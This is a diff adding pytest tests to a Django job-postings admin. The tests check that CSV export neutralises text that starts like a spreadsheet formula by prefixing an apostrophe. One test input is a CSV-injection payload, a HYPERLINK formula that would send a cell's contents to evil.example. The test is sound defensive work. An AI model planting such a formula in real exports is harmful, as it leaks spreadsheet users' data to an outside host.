@@ -1,3 +1,7 @@
+import csv
+import io
+from decimal import Decimal
+
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
@@ -375,3 +379,31 @@ def test_tag_and_company_names_lose_their_control_characters(admin_client):
         {"fr": "Données"},
     )
     assert Company.objects.values_list("name", "city").get() == ("North wind", "Berlin")
+
+
+def exported_rows(client, postings):
+    data = {"action": "export_csv", "_selected_action": [posting.pk for posting in postings]}
+    response = client.post(reverse("admin:jobs_posting_changelist"), data)
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
+)
+def test_the_csv_export_keeps_text_that_starts_like_a_formula_from_running(admin_client, formula):
+    posting = PostingFactory(title=formula, company=CompanyFactory(name=formula), city=formula, salary_min=-5)
+
+    [row] = exported_rows(admin_client, [posting])
+
+    assert row["title"] == row["company"] == row["city"] == f"'{formula}"
+    assert (row["salary minimum"], row["salary maximum"]) == ("-5.00", "90000.00")
+
+
+def test_the_csv_export_leaves_ordinary_text_and_numbers_as_they_are(admin_client):
+    posting = PostingFactory(title='Engineer, "platform" = fun', city="Köln", salary_min=Decimal("70000.50"))
+
+    [row] = exported_rows(admin_client, [posting])
+
+    assert (row["title"], row["city"], row["salary minimum"]) == ('Engineer, "platform" = fun', "Köln", "70000.50")
